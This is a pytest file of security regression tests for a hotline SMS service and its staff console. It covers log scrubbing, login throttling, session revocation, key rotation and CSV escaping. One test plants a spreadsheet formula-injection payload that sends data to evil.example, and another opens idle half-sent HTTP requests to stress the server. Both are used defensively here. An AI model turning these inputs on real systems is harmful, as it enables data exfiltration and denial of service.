"""Issue #20, "Harden the console and the instance": one test (or a few) for each finding, each
of which failed on the code before the fix. Through the app's test client, a real worker, a
real `hotline serve` (gunicorn) and the CLI, on real Redis and SQLite."""

from __future__ import annotations

import csv
import io
import logging
import os
import re
import socket
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
import requests
from sqlalchemy import select

from hotline.config.settings import Settings
from hotline.privacy.keys import cookie_key, legacy_caller_key, legacy_fernet, phone_key
from hotline.privacy.logfilter import install, scrub
from hotline.privacy.phones import caller_key
from hotline.store import Store
from hotline.store.models import Audit, Case, Note, OptOut, StaffMember
from hotline.web.console import auth, throttle

from .cli import cli
from .conftest import ROOT, free_port
from .helpers import run_worker, sms_form, text
from .twilio_standin import StandIn

SURVIVOR = "+919876543210"
KAVITHA, PRIYA = "+919840000001", "+919840000004"
PASSWORD = "a long enough password"
TOKEN = "0123456789abcdef0123456789abcdef"


@pytest.fixture
def console(make_app, sqlite_url):
    app = make_app(database_url=sqlite_url)
    svc = app.extensions["hotline"]
    for who in ("Kavitha", "Priya"):
        auth.set_password(svc.store, who, PASSWORD)
    return app, svc


def csrf(client, path="/console/login") -> str:
    page = client.get(path).get_data(as_text=True)
    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)


def login(app, name, password=PASSWORD, address="127.0.0.1", client=None):
    client = client or app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    reply = client.post("/console/login", data={"csrf_token": csrf(client), "name": name, "password": password})
    return client, reply


def ask_for_a_counsellor(app, svc) -> None:
    client = app.test_client()
    for body in ("hi", "1", "1", "1"):
        text(client, SURVIVOR, body)


# -- 1. the simulator is no anonymous signing service ---------------------------------------------


def test_1_a_token_without_an_account_has_no_simulator_unless_asked(make_app, sqlite_url):
    client = make_app(database_url=sqlite_url, twilio_auth_token=TOKEN).test_client()
    assert client.get("/simulator/").status_code == 404
    assert client.get("/simulator/outbox?to=%2B919876543210").status_code == 404
    assert client.post("/simulator/sign", json={"path": "/twilio/sms", "params": {}}).status_code in (400, 404)


def test_1_the_asked_for_simulator_is_for_coordinators_and_signs_only_its_own_numbers(make_app, sqlite_url):
    app = make_app(database_url=sqlite_url, twilio_auth_token=TOKEN, simulator=True)
    svc = app.extensions["hotline"]
    for who in ("Kavitha", "Priya"):
        auth.set_password(svc.store, who, PASSWORD)
    svc.outbound.sms(SURVIVOR, "her relayed words")
    anonymous = app.test_client()
    assert "/console/login" in anonymous.get("/simulator/").headers["Location"]
    assert anonymous.get("/simulator/outbox?to=%2B919876543210").status_code == 401
    counsellor, _ = login(app, "Kavitha")
    assert counsellor.get("/simulator/").status_code == 403
    coordinator, _ = login(app, "Priya")
    page = coordinator.get("/simulator/").get_data(as_text=True)
    assert KAVITHA not in page and PRIYA not in page  # no staff phone, no staff number
    token = re.search(r'name="csrf-token" content="([^"]+)"', page).group(1)
    # her real number's outbox, and a signature as the coordinator's own number ("ACK …"): refused
    assert coordinator.get("/simulator/outbox?to=%2B919876543210").get_json() == []
    for number in (PRIYA, SURVIVOR):
        refused = coordinator.post("/simulator/sign", json={"path": "/twilio/sms", "params": sms_form(number, "ACK 787")},
                                   headers={"X-CSRFToken": token})
        assert refused.status_code == 403


# -- 2. no full number in the worker's log, whatever the level -------------------------------------


def test_2_a_twilio_error_naming_the_number_reaches_no_log_line(make_services, sqlite_url, capfd):
    standin = StandIn()
    standin.invalid_to.add(KAVITHA)
    caught = io.StringIO()
    handler = logging.StreamHandler(caught)  # a real handler, as the worker's: every record formatted
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
    root = logging.getLogger()
    root.addHandler(handler)
    level = root.level
    root.setLevel(logging.DEBUG)
    try:
        install()  # as `hotline worker` does where it sets logging up
        svc = make_services(twilio_client=standin.client("AC" + "a" * 32, TOKEN), database_url=sqlite_url)
        from hotline.web.app import create_app

        app = create_app(services=svc)
        ask_for_a_counsellor(app, svc)
        clock = svc.now()
        for seconds in (1, 30, 90, 300):  # the first alert and RQ's retries of it
            run_worker(svc, burst=True, until=clock + __import__("datetime").timedelta(seconds=seconds))
    finally:
        root.removeHandler(handler)
        root.setLevel(level)
        standin.stop()
    assert any(f["form"].get("To") == KAVITHA for f in standin.failures)  # Twilio did name her number
    written = caught.getvalue() + "\n".join(capfd.readouterr())
    assert "not sent" in written  # the failure is logged ...
    assert KAVITHA not in written and KAVITHA[1:] not in written  # ... without the number
    assert "+91•••••••001" in written


def test_2_the_scrub_masks_numbers_and_bodies_in_messages_arguments_and_tracebacks():
    record = logging.LogRecord("x", logging.ERROR, __file__, 1, "to %s: %s", (KAVITHA, "Body=he+hit+me&To=1"),
                               None)
    try:
        raise RuntimeError(f"The 'To' number {SURVIVOR} is not valid") from ValueError("+91 98765 43210")
    except RuntimeError:
        record.exc_info = sys.exc_info()
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    from hotline.privacy.logfilter import Scrub

    handler.addFilter(Scrub())
    handler.handle(record)
    line = out.getvalue()
    assert "9840000001" not in line and "9876543210" not in line and "98765 43210" not in line
    assert "he+hit+me" not in line and "Traceback" in line and "+91•••••••210" in line
    assert scrub('{"body": "my husband", "to": "%2B919876543210"}').count("husband") == 0


# -- 3. a password check holds no write transaction ------------------------------------------------


def test_3_the_password_is_checked_with_no_write_transaction_open(console, sqlite_url, monkeypatch):
    app, svc = console
    path = sqlite_url.removeprefix("sqlite:///")
    real = auth.check_password_hash
    writable = []

    def check(hash_, password):  # as scrypt runs: may another writer begin now?
        conn = sqlite3.connect(path, timeout=0)
        try:
            conn.execute("BEGIN IMMEDIATE")
            conn.execute("ROLLBACK")
            writable.append(True)
        except sqlite3.OperationalError:
            writable.append(False)
        finally:
            conn.close()
        return real(hash_, password)

    monkeypatch.setattr(auth, "check_password_hash", check)
    for name, password in (("Nobody at all", "wrong password"), ("Kavitha", "wrong password"), ("Kavitha", PASSWORD)):
        login(app, name, password, address="10.1.1.1")
    assert writable == [True, True, True]


# -- 4. idle connections do not take the service down -----------------------------------------------


def test_4_idle_connections_do_not_hold_the_web_server(tmp_path):
    from hotline.web.server import THREADS

    port = free_port()
    env = dict(os.environ, HOTLINE_INSTANCE=str(tmp_path / "instance"), SECRET_KEY="test", LOG_LEVEL="WARNING",
               HOTLINE_STAFF=str(ROOT / "tests" / "data" / "staff.yaml"))
    for name in ("REDIS_URL", "DATABASE_URL", "TWILIO_ACCOUNT_SID", "TWILIO_AUTH_TOKEN", "PORT"):
        env.pop(name, None)
    server = subprocess.Popen([sys.executable, "-m", "hotline.cli.main", "serve", "--port", str(port)], env=env, cwd=ROOT,
                              start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    idle: list[socket.socket] = []
    try:
        url = f"http://127.0.0.1:{port}/healthz"
        deadline = time.monotonic() + 30
        while True:  # up: the embedded Redis started, the store migrated
            try:
                if requests.get(url, timeout=2).status_code == 200:
                    break
            except requests.RequestException:
                pass
            assert server.poll() is None and time.monotonic() < deadline, "hotline serve did not come up"
            time.sleep(0.1)
        for _ in range(THREADS + 4):  # a request line and headers, then nothing
            sock = socket.create_connection(("127.0.0.1", port))
            sock.sendall(b"POST /twilio/sms HTTP/1.1\r\nHost: x\r\nContent-Length: 500\r\n")
            idle.append(sock)
        started = time.monotonic()
        reply = requests.get(url, timeout=10)
        assert reply.status_code == 200 and time.monotonic() - started < 8
    finally:
        for sock in idle:
            sock.close()
        os.killpg(server.pid, 15)
        server.wait(20)


# -- 5. logout, a new password and "sign out everywhere" end a session on the server ---------------


def _replay(app, cookie: str):
    other = app.test_client()
    other.set_cookie("hotline_console", cookie)
    return other.get("/console/cases")


def test_5_logout_ends_the_session_even_for_a_copy_of_its_cookie(console):
    app, svc = console
    client, _ = login(app, "Kavitha")
    cookie = client.get_cookie("hotline_console").value
    assert _replay(app, cookie).status_code == 200
    client.post("/console/logout", data={"csrf_token": csrf(client, "/console/")})
    assert _replay(app, cookie).status_code == 302


def test_5_a_coordinator_and_the_command_sign_someone_out_everywhere(console, capsys):
    app, svc = console
    kavitha, _ = login(app, "Kavitha")
    cookie = kavitha.get_cookie("hotline_console").value
    coordinator, _ = login(app, "Priya")
    with svc.store.read() as s:
        kavitha_id = s.scalars(select(StaffMember.id).where(StaffMember.name == "Kavitha")).one()
    assert coordinator.post(f"/console/staff/{kavitha_id}/sign-out",
                            data={"csrf_token": csrf(coordinator, "/console/rota")}).status_code == 302
    assert _replay(app, cookie).status_code == 302
    kavitha, _ = login(app, "Kavitha")
    assert cli("staff", "sign-out", "Kavitha").exit_code == 0
    assert kavitha.get("/console/cases").status_code == 302


# -- 6. failed logins: the same answer for anyone, and nobody locked out ----------------------------


def test_6_an_unknown_name_is_answered_exactly_as_a_real_one(console):
    app, _ = console
    answers = {}
    for name, address in (("Kavitha", "10.0.0.1"), ("Nobody at all", "10.0.0.2")):
        answers[name] = [login(app, name, "wrong password", address=address)[1].status_code
                         for _ in range(throttle.PAIR_FAILURES + 1)]
    assert answers["Kavitha"] == answers["Nobody at all"] == [401] * throttle.PAIR_FAILURES + [429]


def test_6_failures_from_many_addresses_do_not_lock_her_out(console):
    app, svc = console
    assert login(app, "Kavitha", address="192.168.1.20")[1].status_code == 302  # her usual computer
    for n in range(throttle.NAME_FAILURES + 5):  # someone guesses from many addresses
        login(app, "Kavitha", "wrong password", address=f"203.0.113.{n}")
    assert login(app, "Kavitha", address="198.51.100.7")[1].status_code == 429  # a new address: not now
    assert login(app, "Kavitha", address="192.168.1.20")[1].status_code == 302  # hers: she gets in


# -- 7. the secret key is its owner's only from its first byte -------------------------------------


def test_7_the_secret_key_file_is_created_private_not_chmod_afterwards(tmp_path, monkeypatch):
    chmods = []
    real_chmod = Path.chmod

    def chmod(self, mode, **kwargs):
        if self.name == "secret_key":
            chmods.append(mode)  # too late: it existed, readable, before this
            return None
        return real_chmod(self, mode, **kwargs)

    monkeypatch.setattr(Path, "chmod", chmod)
    monkeypatch.delenv("SECRET_KEY", raising=False)
    old = os.umask(0o022)
    try:
        settings = Settings.from_env(instance=tmp_path / "instance", database_url="sqlite://")
    finally:
        os.umask(old)
    path = tmp_path / "instance" / "secret_key"
    assert oct(path.stat().st_mode & 0o777) == "0o600" and len(settings.secret_key) == 64
    assert Settings.from_env(instance=tmp_path / "instance", database_url="sqlite://").secret_key == settings.secret_key


# -- 8. no CSV the hotline writes runs a formula ----------------------------------------------------


def test_8_the_audit_export_escapes_a_staff_name_written_as_a_formula(console, capsys):
    app, svc = console
    with svc.store.session() as s:
        member = s.scalars(select(StaffMember).where(StaffMember.name == "Priya")).one()
        member.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        staff_id = member.id
    svc.reload_staff()
    svc.store.audit("console.login", staff_id=staff_id)
    done = cli("audit", "export")
    assert done.exit_code == 0
    rows = list(csv.reader(io.StringIO(done.stdout)))
    names = [row[3] for row in rows[1:] if "HYPERLINK" in row[3]]
    assert names and all(name.startswith("'=") for name in names)
    from hotline.privacy.csvfile import cell

    assert [cell(x) for x in ("+1", "-1", "@x", "\tx", "\rx", "fine", 7)] == \
        ["'+1", "'-1", "'@x", "'\tx", "'\rx", "fine", 7]


# -- 9. one key per use, derived from SECRET_KEY, and rotated -------------------------------------


def test_9_cookies_phone_hashes_and_sealing_each_have_their_own_key(make_app, sqlite_url):
    app = make_app(database_url=sqlite_url)
    svc = app.extensions["hotline"]
    secret = svc.settings.secret_key
    assert app.config["SECRET_KEY"] == cookie_key(secret) != secret.encode()
    assert len({cookie_key(secret), phone_key(secret), secret.encode()}) == 3
    assert caller_key(SURVIVOR, secret) != legacy_caller_key(SURVIVOR, secret)  # not keyed by the secret itself
    sealed = svc.store.seal(SURVIVOR)
    with pytest.raises(Exception):  # noqa: B017 - the old derivation of the secret does not open it
        legacy_fernet(secret).decrypt(sealed.encode())


def test_9_keys_rotate_reseals_and_rekeys_everything_under_the_new_secret(sqlite_url, redis_client, capsys,
                                                                           make_services, monkeypatch):
    old, new = "the old secret", "the new secret"
    before = Store(sqlite_url, old, old_secrets=())
    key = caller_key(SURVIVOR, old)
    with before.session() as s:
        case = Case(caller_key=key, contact=before.seal(SURVIVOR))
        s.add(case)
        s.flush()
        s.add(Note(case_id=case.id, body=before.seal("bruises on her arm")))
        s.add(OptOut(caller_key=key))
        s.add(Audit(event="x", caller_key=key, detail={}))
    redis_client.set(f"hotline:lang:{key}", "ta")
    before.engine.dispose()

    monkeypatch.setenv("SECRET_KEY_OLD", old)
    svc = make_services(database_url=sqlite_url, secret_key=new)
    assert svc.store.unseal(case.contact) == SURVIVOR  # until the rotation, the old key still opens
    from hotline.web.app import create_app

    with pytest.raises(SystemExit, match="keys rotate"):  # web and worker refuse: her STOP is under the old key
        create_app(services=svc)
    done = cli("keys", "rotate")
    assert done.exit_code == 0
    assert not svc.store.needs_rotation()
    assert "re-encrypted" in done.stdout
    svc.store.engine.dispose()

    after = Store(sqlite_url, new, old_secrets=())  # the old secret forgotten: everything still opens
    fresh = caller_key(SURVIVOR, new)
    with after.read() as s:
        row = s.get(Case, case.id)
        assert row.caller_key == fresh and after.unseal(row.contact) == SURVIVOR
        assert after.unseal(s.scalars(select(Note.body)).one()) == "bruises on her arm"
        assert s.get(OptOut, fresh) is not None and s.get(OptOut, key) is None
        assert s.scalars(select(Audit.caller_key).where(Audit.event == "x")).one() == fresh
    assert redis_client.get(f"hotline:lang:{fresh}") == b"ta"
    after.engine.dispose()
